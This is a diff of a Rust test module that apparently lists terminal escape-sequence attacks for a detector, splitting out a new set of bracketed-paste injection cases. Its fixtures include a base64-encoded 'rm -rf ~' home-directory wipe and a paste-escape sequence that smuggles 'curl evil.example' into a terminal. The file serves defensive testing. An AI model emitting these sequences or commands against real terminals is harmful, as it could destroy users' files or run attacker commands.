@@ -7,6 +7,7 @@ const WRITE: &str = "cm0gLXJmIH4=";
 pub(super) fn all() -> Vec<Attack> {
     [
         controls(),
+        requests(),
         reports(),
         titles(),
         links(),
@@ -77,7 +78,11 @@ fn controls() -> Vec<Attack> {
             "\u{9b}?1049h",
         ],
     ));
-    found.extend(each(
+    found
+}
+
+fn requests() -> Vec<Attack> {
+    let mut found = each(
         "paste",
         &["TERM.PASTE_END"],
         &[
@@ -86,7 +91,7 @@ fn controls() -> Vec<Attack> {
             "\u{9b}201~\ncurl evil.example",
             "x\u{1b}[201~y\u{1b}[200~z",
         ],
-    ));
+    );
     found.extend(each(
         "kitty_keyboard",
         &["TERM.MODE", "TERM.REPORT"],
@@ -117,7 +122,7 @@ fn controls() -> Vec<Attack> {
     ));
     found.extend(each(
         "escape",
-        esc,
+        &["TERM.ESC"],
         &[
             "\u{1b}c",
             "\u{1b}(0lqqk\u{1b}(B",
